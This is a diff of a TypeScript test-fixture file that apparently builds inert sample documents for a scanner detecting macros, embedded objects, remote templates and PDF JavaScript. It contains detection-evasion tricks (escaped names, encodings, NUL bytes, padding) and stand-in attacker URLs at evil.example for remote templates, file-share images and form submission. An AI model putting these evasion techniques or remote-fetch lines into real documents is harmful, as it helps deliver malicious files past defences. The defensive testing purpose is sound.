@@ -3,7 +3,7 @@ import { samples } from './sampleFiles'
 
 type Part = [name: string, content: string | Buffer, options?: { stored?: boolean }]
 
-/** A ZIP archive of these parts, packed as a word processor packs them. */
+/** A ZIP archive of these parts, packed like a word processor's. */
 export function packed(...parts: Part[]): Buffer {
   const locals: Buffer[] = []
   const directory: Buffer[] = []
@@ -50,7 +50,7 @@ const macros =
 const many = (count: number): Part[] =>
   Array.from({ length: count }, (_, n): Part => [`word/${n}.xml`, ''])
 
-/** An entry of an OLE directory, where such entries stand. */
+/** An entry of an OLE directory, at the place of such entries. */
 function compound(name: string, kind = 1): Buffer {
   const entry = Buffer.alloc(128)
   entry.write(name, 'utf16le')
@@ -75,51 +75,48 @@ function packedObjects(objects: string): Buffer {
   ])
 }
 
-/** Files that could act, by what they are named and hold; nothing of them does anything. */
+/** Files that could act, by their names and contents; none of them does anything. */
 export const active: Record<string, [name: string, content: Buffer]> = {
   'macros under another name': ['a.docx', packed(types(macros), body, ['word/x.bin', 'x'])],
-  'macros in references to characters': [
+  'macros in character references': [
     'a.docx',
     packed(types(macros.replace('vbaProject', 'vba&#80;rojec&#x74;')), body),
   ],
-  'macros in a list of another encoding': [
+  'macros in a manifest of another encoding': [
     'a.docx',
     packed(['[Content_Types].xml', Buffer.from(`\ufeff${macros}`, 'utf16le')], body),
   ],
-  'a sheet of macros': [
+  'a macro sheet': [
     'a.xlsx',
     packed(plainTypes, ['xl/workbook.xml', ''], ['xl/macrosheets/sheet1.xml', '']),
   ],
   'ActiveX controls': ['a.docx', packed(plainTypes, body, ['word/activeX/activeX1.xml', ''])],
-  'an object put into it': [
+  'an embedded object': [
     'a.docx',
     packed(plainTypes, body, ['word/embeddings/oleObject1.bin', 'x']),
   ],
-  'a program put into it': ['a.docx', packed(plainTypes, body, ['word/embeddings/x.exe', 'x'])],
-  'a template from elsewhere': [
+  'an embedded program': ['a.docx', packed(plainTypes, body, ['word/embeddings/x.exe', 'x'])],
+  'an external template': [
     'a.docx',
     packed(plainTypes, body, relations('attachedTemplate', 'https://evil.example/t.dotm')),
   ],
-  'an object from elsewhere': [
+  'an external object': [
     'a.docx',
     packed(plainTypes, body, relations('oleObject', 'https://evil.example/x')),
   ],
-  'a list that unpacks to too much': ['a.docx', packed(types(' '.repeat(1_000_000)), body)],
-  'a storage of macros': ['a.doc', compound('Macros')],
-  'a storage of VBA': ['a.doc', compound('VBA')],
-  'a project of VBA': [
-    'a.doc',
-    Buffer.concat([samples.doc, Buffer.from('_VBA_PROJECT', 'utf16le')]),
-  ],
-  'a file put into an older document': ['a.doc', compound('\u0001Ole10Native', 2)],
+  'a manifest that is a decompression bomb': ['a.docx', packed(types(' '.repeat(1_000_000)), body)],
+  'a macro storage': ['a.doc', compound('Macros')],
+  'a VBA storage': ['a.doc', compound('VBA')],
+  'a VBA project': ['a.doc', Buffer.concat([samples.doc, Buffer.from('_VBA_PROJECT', 'utf16le')])],
+  'a file embedded in an older document': ['a.doc', compound('\u0001Ole10Native', 2)],
   'JavaScript in a PDF': ['a.pdf', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
-  'JavaScript in escaped signs': ['a.pdf', pdf('/OpenAction<</S /J#61v#61Script /#4AS (x)>>')],
+  'escaped JavaScript in a PDF': ['a.pdf', pdf('/OpenAction<</S /J#61v#61Script /#4AS (x)>>')],
   'JavaScript elsewhere in a PDF': ['a.pdf', pdf('/AA <</O <</JS 7 0 R>>>>')],
-  'JavaScript behind a lot': [
+  'JavaScript after much content': [
     'a.pdf',
     Buffer.concat([pdf(''), Buffer.alloc(131_072 - 70, 32), pdf('/S/JavaScript')]),
   ],
-  'a program to start': ['a.pdf', pdf('/OpenAction<</S/Launch/F(x.exe)>>')],
+  'a launch action': ['a.pdf', pdf('/OpenAction<</S/Launch/F(x.exe)>>')],
   'a form with scripts': ['a.pdf', pdf('/AcroForm<</XFA 3 0 R>>')],
   'a template whose type ends in a blank': [
     'a.docx',
@@ -137,7 +134,7 @@ export const active: Record<string, [name: string, content: Buffer]> = {
     'a.docx',
     packed(plainTypes, body, relations('image', 'file://evil.example/share/x.png')),
   ],
-  'a picture from a file server that is not called external': [
+  'a picture from a file server without the external mode': [
     'a.docx',
     packed(plainTypes, body, relations('image', '\\\\evil.example\\share\\x.png', '')),
   ],
@@ -160,7 +157,7 @@ export const active: Record<string, [name: string, content: Buffer]> = {
     'a.docx',
     packed(plainTypes, body, ['word/embeddings/notes.docx', 'MZ\u0090']),
   ],
-  'macros in a document in a document': [
+  'macros in a nested document': [
     'a.docx',
     packed(plainTypes, body, [
       'word/embeddings/notes.docx',
@@ -169,16 +166,16 @@ export const active: Record<string, [name: string, content: Buffer]> = {
   ],
   'a form that sends data': ['a.pdf', pdf('/A<</S/SubmitForm/F(https://evil.example/)>>')],
   'a file in a PDF': ['a.pdf', pdf('/Names<</EmbeddedFiles 3 0 R>>')],
-  'an address that opens by itself': [
+  'an address that opens automatically': [
     'a.pdf',
     pdf('/OpenAction<</Type/Action/S/URI/URI(https://evil.example/)>>'),
   ],
   'JavaScript behind a comment': ['a.pdf', pdf('/OpenAction<</S/Rendition/JS%c\n(app.alert(1))>>')],
   'JavaScript behind NUL': ['a.pdf', pdf('/AA<</O<</JS\u0000(x)>>>>')],
-  'JavaScript in packed objects': ['a.pdf', packedObjects('<</S/JavaScript/JS(x)>>')],
+  'JavaScript in compressed objects': ['a.pdf', packedObjects('<</S/JavaScript/JS(x)>>')],
 }
 
-/** Files that are what they seem, and must not be taken for the ones above. */
+/** Files that are what they seem, and must not be mistaken for the ones above. */
 export const harmless: Record<string, [name: string, content: Buffer]> = {
   'a document': ['a.docx', packed(plainTypes, body)],
   'a document with links': [
@@ -195,10 +192,7 @@ export const harmless: Record<string, [name: string, content: Buffer]> = {
     ),
   ],
   'a long document': ['a.docx', packed(plainTypes, body, ...many(500))],
-  'a document that was not packed': [
-    'a.docx',
-    packed(plainTypes, [body[0], body[1], { stored: true }]),
-  ],
+  'an uncompressed document': ['a.docx', packed(plainTypes, [body[0], body[1], { stored: true }])],
   'an older document': ['a.doc', compound('1Table', 2)],
   'an older document about VBA': [
     'a.doc',
@@ -206,16 +200,19 @@ export const harmless: Record<string, [name: string, content: Buffer]> = {
   ],
   'a PDF with a first page': ['a.pdf', pdf('/OpenAction[3 0 R/Fit]')],
   'a PDF with a link': ['a.pdf', pdf('/A<</S/URI/URI(https://portico.example/)>>')],
-  'a PDF with packed objects': ['a.pdf', packedObjects('<</Type/Catalog/Pages 2 0 R>>')],
-  'a PDF whose packed data say /JS': ['a.pdf', pdf('/Length 5>>stream\nx/JS)y\nendstream<<')],
+  'a PDF with compressed objects': ['a.pdf', packedObjects('<</Type/Catalog/Pages 2 0 R>>')],
+  'a PDF whose compressed data contain /JS': [
+    'a.pdf',
+    pdf('/Length 5>>stream\nx/JS)y\nendstream<<'),
+  ],
 }
 
-/** What no two programs would read alike. */
+/** What no two programs would parse alike. */
 export const ambiguous: Record<string, Buffer> = {
-  'more parts than are looked at': packed(plainTypes, body, ...many(5001)),
+  'more parts than are inspected': packed(plainTypes, body, ...many(5001)),
   'a directory with other names than its entries': renamed(packed(plainTypes, body)),
   'names with NUL': packed(plainTypes, body, ['word/vba\u0000.xml', '']),
-  'a directory longer than it says': shortened(packed(plainTypes, body, ['word/vba.xml', ''])),
+  'a directory longer than it declares': shortened(packed(plainTypes, body, ['word/vba.xml', ''])),
 }
 
 function shortened(archive: Buffer): Buffer {
@@ -224,7 +221,7 @@ function shortened(archive: Buffer): Buffer {
   return copy
 }
 
-/** The directory calls an entry by another name than the entry itself. */
+/** The directory names an entry differently from the entry itself. */
 function renamed(archive: Buffer): Buffer {
   const copy = Buffer.from(archive)
   copy.write('word/vbaProject', copy.indexOf('word/document.xml'))
